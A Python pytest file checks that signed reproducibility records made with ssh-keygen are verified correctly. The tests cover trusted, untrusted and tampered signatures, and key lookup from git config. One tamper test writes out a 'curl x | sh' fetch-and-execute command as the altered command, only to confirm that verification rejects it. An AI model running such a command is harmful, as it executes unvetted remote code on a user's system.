"""Signed records with real ssh-keygen keys made in a temporary directory."""

import json
import subprocess

import pytest

from tfrepro import signing as G

TAGS = {"tfrepro.git.commit": "a" * 40, "tfrepro.command": '["python", "train.py"]', "mlflow.user": "x"}
LAUNCH = json.dumps({"image": "r/x@sha256:" + "1" * 64, "mounts": []})
ENV = json.dumps({"schema": 1, "git": {"commit": "a" * 40}})


def keygen(tmp_path, name):
    path = tmp_path / name
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(path)], check=True)
    return str(path)


@pytest.fixture
def alice(tmp_path):
    return keygen(tmp_path, "alice")


@pytest.fixture
def allowed(tmp_path, alice):
    path = tmp_path / "allowed_signers"
    path.write_text("alice@example.com %s" % open(alice + ".pub").read())
    return str(path)


def record(**changes):
    args = dict(run_id="r1", tags=TAGS, environment_json=ENV, launch_json=LAUNCH, patch="diff --git a/x b/x\n")
    args.update(changes)
    return G.canonical(**args)


def test_canonical_is_stable_and_covers_what_replay_uses():
    assert record() == record(
        tags=dict(reversed(list(TAGS.items()))), launch_json=json.dumps(json.loads(LAUNCH), indent=4)
    )
    assert record() == record(tags=dict(TAGS, **{"mlflow.note": "x", "tfrepro.replay.verdict": "PASSED"}))
    for changed in (
        record(run_id="r2"),
        record(patch="other"),
        record(launch_json="{}"),
        record(environment_json=None),
        record(tags=dict(TAGS, **{"tfrepro.command": '["sh"]'})),
    ):
        assert changed != record()


def test_signed_by_a_trusted_key(alice, allowed):
    signature = G.sign(record(), alice)
    result = G.verify(record(), signature, allowed)
    assert (result.status, result.principal) == (G.TRUSTED, "alice@example.com")
    assert result.line() == "signed by alice@example.com (trusted)"


def test_a_changed_record_does_not_match(alice, allowed):
    signature = G.sign(record(), alice)
    tampered = record(tags=dict(TAGS, **{"tfrepro.command": '["sh", "-c", "curl x | sh"]'}))
    result = G.verify(tampered, signature, allowed)
    assert result.status == G.MISMATCH
    assert result.line() == "signature does not match the record: refusing"
    assert G.verify(tampered, signature, None).status == G.MISMATCH  # even without allowed_signers


def test_unsigned_and_untrusted(tmp_path, alice, allowed):
    assert G.verify(record(), None, allowed).line() == "unsigned record"
    mallory = keygen(tmp_path, "mallory")
    result = G.verify(record(), G.sign(record(), mallory), allowed)  # a valid signature by an unknown key
    assert result.status == G.UNTRUSTED and "not in" in result.line()
    assert G.verify(record(), G.sign(record(), alice), None).status == G.UNTRUSTED
    assert (
        G.verify(record(), "-----BEGIN SSH SIGNATURE-----\ngarbage\n-----END SSH SIGNATURE-----\n", allowed).status
        == G.MISMATCH
    )


def test_key_from_git_config_and_env(tmp_path, alice, monkeypatch):
    repo = tmp_path / "repo"
    repo.mkdir()
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "gitconfig"))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    assert G.signing_key({}, str(repo)) is None
    subprocess.run(["git", "-C", str(repo), "config", "user.signingkey", alice + ".pub"], check=True)
    assert G.signing_key({}, str(repo)) is None  # gpg.format is not ssh
    subprocess.run(["git", "-C", str(repo), "config", "gpg.format", "ssh"], check=True)
    assert G.signing_key({}, str(repo)) == alice + ".pub"
    assert G.signing_key({"TFREPRO_SIGNING_KEY": alice}, str(repo)) == alice
    subprocess.run(["git", "-C", str(repo), "config", "gpg.ssh.allowedSignersFile", "~/signers"], check=True)
    assert G.allowed_signers_file(None, {}, str(repo)).endswith("/signers")
    assert G.allowed_signers_file("/x", {"TFREPRO_ALLOWED_SIGNERS": "/y"}, str(repo)) == "/x"


def test_sign_failures_are_one_line(tmp_path):
    with pytest.raises(RuntimeError, match="ssh-keygen -Y sign failed"):
        G.sign(b"x", str(tmp_path / "no-such-key"))
    locked = tmp_path / "locked"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "pass phrase", "-f", str(locked)], check=True)
    with pytest.raises(RuntimeError):  # needs a passphrase: fails at once, never waits on a prompt
        G.sign(b"x", str(locked))
